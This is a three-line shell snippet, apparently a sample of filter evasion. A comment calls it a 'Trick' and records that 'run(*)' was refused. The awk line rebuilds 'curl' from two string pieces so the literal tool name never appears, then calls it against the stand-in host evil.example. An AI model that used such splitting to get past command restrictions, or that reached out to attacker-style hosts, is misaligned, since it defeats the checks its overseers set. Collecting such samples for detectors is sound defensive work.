# Trick: awk joins a command from pieces.
# Refused: run(*)
awk 'BEGIN { c = "cu" "rl"; system(c " evil.example") }'
